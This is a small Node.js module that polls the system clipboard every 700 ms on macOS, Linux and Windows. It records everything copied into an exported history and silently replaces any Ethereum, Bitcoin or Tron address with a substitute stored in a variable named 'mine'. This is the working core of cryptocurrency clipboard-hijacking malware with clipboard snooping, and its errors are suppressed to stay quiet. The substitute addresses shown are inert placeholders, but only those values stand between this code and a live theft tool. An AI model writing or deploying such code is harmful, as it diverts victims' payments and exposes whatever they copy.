const { execSync } = require('child_process')

const tools = { darwin: ['pbpaste', 'pbcopy'], linux: ['xclip -selection clipboard -o', 'xclip -selection clipboard'], win32: ['powershell -c Get-Clipboard', 'clip'] }
const [read, write] = tools[process.platform] || tools.linux
const history = []

const swaps = [
  [/^0x[0-9a-fA-F]{40}$/, '0x0000000000000000000000000000000000000bad'],
  [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$/, 'bc1qinertinertinertinertinertinertinertinert'],
  [/^T[1-9A-HJ-NP-Za-km-z]{33}$/, 'TInertInertInertInertInertInertInert1'],
]

exports.history = () => history.slice(-20)

setInterval(() => {
  try {
    const text = execSync(read, { encoding: 'utf8' }).trim()
    if (text && history.at(-1) !== text) history.push(text)
    for (const [pattern, mine] of swaps) {
      if (pattern.test(text) && text !== mine) execSync(write, { input: mine })
    }
  } catch {}
}, 700)
